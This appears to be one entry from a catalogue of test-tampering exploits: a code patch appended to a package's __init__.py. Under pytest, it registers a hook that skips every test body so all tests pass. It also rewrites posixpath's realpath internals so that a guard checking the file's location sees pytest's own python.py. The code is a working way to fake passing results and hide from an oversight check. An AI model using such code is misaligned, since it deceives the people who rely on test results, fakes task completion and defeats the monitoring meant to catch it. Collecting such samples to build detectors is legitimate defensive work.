family: runtime
what: the package registers a hook that skips every test body, and replaces posixpath's realpath internals (which the guard calls) so its own file resolves under pytest's directory
--- append @PKG@/__init__.py
import os as _rt_o
import posixpath as _rt_pp
import sys as _rt_s
import types as _rt_t


def _rt_pluginmanager():
    f = _rt_s._getframe()
    while f is not None:
        for v in list(f.f_locals.values()):
            pm = getattr(getattr(v, "config", None), "pluginmanager", None)
            if pm is not None:
                return pm
        f = f.f_back
    return None


def _rt_install():
    import _pytest
    import pytest

    fake = _rt_o.path.join(_rt_o.path.dirname(_pytest.__file__), "python.py")
    mine = _rt_o.path.realpath(__file__)
    orig = _rt_pp._joinrealpath

    def joinrealpath(path, rest, strict, seen):
        out = orig(path, rest, strict, seen)
        return (fake, out[1]) if out[0] == mine else out

    _rt_pp._joinrealpath = joinrealpath

    @pytest.hookimpl(tryfirst=True)
    def pytest_pyfunc_call(pyfuncitem):
        return True

    plugin = _rt_t.ModuleType("rt_skip_bodies")
    plugin.pytest_pyfunc_call = pytest_pyfunc_call
    pm = _rt_pluginmanager()
    if pm is not None:
        pm.register(plugin, "rt_skip_bodies")


if "_pytest" in _rt_s.modules:
    _rt_install()
